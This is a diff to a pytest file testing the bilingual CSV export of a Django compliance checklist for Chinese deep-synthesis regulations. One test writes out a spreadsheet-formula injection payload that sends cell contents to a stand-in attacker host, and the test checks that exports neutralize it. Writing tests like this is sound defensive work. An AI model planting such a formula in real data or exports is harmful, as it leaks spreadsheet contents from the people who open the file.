@@ -26,24 +26,48 @@ from .conftest import (
 pytestmark = pytest.mark.django_db
 
 HEADER = [
-    "id",
-    "instrument",
-    "provision",
-    "obligation",
-    "occurrence",
-    "summary_en",
-    "quote_zh",
-    "phase",
-    "kind",
-    "applicability",
-    "status",
-    "due_date",
-    "assignee",
-    "completed_by",
-    "completed_at",
-    "justification",
-    "evidence",
-    "superseded_reason",
+    "Item",
+    "Instrument",
+    "Provision",
+    "Obligation",
+    "Quoted text",
+    "Period",
+    "Phase",
+    "Kind",
+    "Applicability",
+    "Why it applies",
+    "Status",
+    "Due date",
+    "How the due date was set",
+    "Assignee",
+    "Completed by",
+    "Completed at",
+    "Reason it does not apply",
+    "Evidence",
+    "Why it was set aside",
+    "Link",
+]
+HEADER_ZH = [
+    "事项",
+    "文件",
+    "条款",
+    "义务",
+    "原文摘录",
+    "期次",
+    "阶段",
+    "类型",
+    "适用性",
+    "适用理由",
+    "状态",
+    "到期日",
+    "到期日的确定依据",
+    "负责人",
+    "完成人",
+    "完成时间",
+    "不适用理由",
+    "证明材料",
+    "搁置原因",
+    "链接",
 ]
 CHANGE = "cn-deep-synthesis-2022:art19-filing-change-provider"
 
@@ -54,12 +78,16 @@ def export(client, organization, params=None):
     return response
 
 
-def rows(response) -> list[dict]:
+def rows(response, header=HEADER) -> list[dict]:
     text = response.content.decode("utf-8-sig")
     reader = csv.reader(io.StringIO(text))
-    header = next(reader)
-    assert header == HEADER
+    assert next(reader) == header
     return [dict(zip(header, row, strict=True)) for row in reader]
+
+
+def item_id(row: dict) -> int:
+    """The item a row is about, from the link to its page (the file carries no bare ids)."""
+    return int(urlsplit(row.get("Link") or row["链接"]).path.rstrip("/").rsplit("/", 1)[1])
 
 
 @pytest.fixture
@@ -88,35 +116,62 @@ def test_export_has_a_bom_a_header_and_one_row_per_visible_item(shanghai, as_ali
 
     assert response.content.startswith(b"\xef\xbb\xbf")
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert response["Content-Disposition"] == 'attachment; filename="checklist-shanghai.csv"'
+    assert response["Content-Disposition"] == 'attachment; filename="checklist-shanghai-en.csv"'
     exported = rows(response)
     visible = ChecklistItem.objects.filter(organization=shanghai, superseded_at__isnull=True)
-    assert sorted(int(r["id"]) for r in exported) == sorted(visible.values_list("pk", flat=True))
-    by_id = {int(r["id"]): r for r in exported}
+    assert sorted(item_id(r) for r in exported) == sorted(visible.values_list("pk", flat=True))
+    by_id = {item_id(r): r for r in exported}
     row = by_id[item.pk]
-    assert row["obligation"] == MANAGEMENT
-    assert row["quote_zh"] == item.obligation.quote_zh
-    assert "深度合成服务提供者应当落实信息安全主体责任" in row["quote_zh"]
-    assert (row["status"], row["completed_by"], row["evidence"]) == ("done", "alice", "1")
-    assert row["completed_at"]
+    assert row["Item"] == item.obligation.title_in("en")
+    assert row["Item"].startswith("Deep Synthesis Provisions Art. 7: ")
+    assert row["Instrument"] == item.obligation.instrument.title_en
+    assert row["Quoted text"] == item.obligation.quote_zh
+    assert "深度合成服务提供者应当落实信息安全主体责任" in row["Quoted text"]
+    assert (row["Status"], row["Completed by"], row["Evidence"]) == ("Done", "alice", "1")
+    assert row["Completed at"]
+    assert row["Link"] == f"http://testserver/organizations/{shanghai.pk}/checklist/{item.pk}/"
+    assert row["Why it applies"].splitlines()[0] == "The instrument is in force."
+    assert "Deep synthesis service provider" in row["Why it applies"]
     filing = by_id[launched["filing"].pk]
-    assert (filing["occurrence"], filing["due_date"]) == (f"event:{launched['filing'].event_id}", "2025-02-08")
+    assert (filing["Period"], filing["Due date"]) == ("Service launched (2025-01-20)", "2025-02-08")
+    assert filing["How the due date was set"].startswith("“Service launched” on 2025-01-20. 2025-01-20 is the start")
+
+
+def test_export_in_chinese_has_chinese_headers_and_values(shanghai, as_alice, launched):
+    exported = rows(export(as_alice, shanghai, {"lang": "zh"}), HEADER_ZH)
+    filing = next(r for r in exported if item_id(r) == launched["filing"].pk)
+    obligation = launched["filing"].obligation
+    assert filing["事项"] == obligation.title_in("zh")
+    assert filing["事项"].startswith("深度合成管理规定 第十九条：")
+    assert (filing["文件"], filing["状态"], filing["适用性"]) == (obligation.instrument.title_zh, "待办", "适用")
+    assert filing["期次"] == "服务上线（2025-01-20）"
+    assert filing["到期日的确定依据"].startswith("“服务上线”的日期为2025-01-20。")
+    assert "组织承担深度合成服务提供者角色。" in filing["适用理由"].splitlines()
+    # The request's language is the default; an unknown one is refused, naming the parameter.
+    assert rows(export(as_alice, shanghai), HEADER)
+    chinese = as_alice.get(url(shanghai, "checklist/export/"), HTTP_ACCEPT_LANGUAGE="zh-CN")
+    assert chinese["Content-Disposition"] == 'attachment; filename="checklist-shanghai-zh.csv"'
+    refused = as_alice.get(url(shanghai, "checklist/export/"), {"lang": "fr"})
+    assert (refused.status_code, list(refused.json())) == (400, ["lang"])
+    # lang belongs to the export only: the list refuses it like any unknown parameter.
+    assert as_alice.get(url(shanghai, "checklist/"), {"lang": "zh"}).status_code == 400
 
 
 def test_export_applies_the_list_filters(shanghai, as_alice, launched):
     patch_item(as_alice, launched["change"], {"assignee": launched["bob"].pk})
 
     assigned = rows(export(as_alice, shanghai, {"assignee": str(launched["bob"].pk)}))
-    assert [int(r["id"]) for r in assigned] == [launched["change"].pk]
-    assert assigned[0]["assignee"] == "bob"
+    assert [item_id(r) for r in assigned] == [launched["change"].pk]
+    assert assigned[0]["Assignee"] == "bob"
 
     dated = rows(export(as_alice, shanghai, {"due_before": "2025-12-31"}))
-    assert sorted(int(r["id"]) for r in dated) == sorted([launched["filing"].pk, launched["change"].pk])
+    assert sorted(item_id(r) for r in dated) == sorted([launched["filing"].pk, launched["change"].pk])
 
     superseded = rows(export(as_alice, shanghai, {"superseded": "true"}))
     assert superseded
-    assert all(r["superseded_reason"] for r in superseded)
-    assert item_for(shanghai, EXISTING_APP).pk in {int(r["id"]) for r in superseded}
+    assert all(r["Why it was set aside"] for r in superseded)
+    existing = next(r for r in superseded if item_id(r) == item_for(shanghai, EXISTING_APP).pk)
+    assert existing["Why it was set aside"].startswith("No longer applies: ")
 
     assert as_alice.get(url(shanghai, "checklist/export/"), {"colour": "red"}).status_code == 400
 
@@ -126,9 +181,9 @@ def test_export_neutralizes_spreadsheet_formulas(shanghai, as_alice):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     patch_item(as_alice, item, {"status": "not_applicable", "justification": formula})
 
-    (row,) = [r for r in rows(export(as_alice, shanghai)) if int(r["id"]) == item.pk]
+    (row,) = [r for r in rows(export(as_alice, shanghai)) if item_id(r) == item.pk]
 
-    assert not row["justification"].startswith(("=", "+", "-", "@"))
+    assert not row["Reason it does not apply"].startswith(("=", "+", "-", "@"))
 
 
 # --- Calendar feeds ------------------------------------------------------------------------
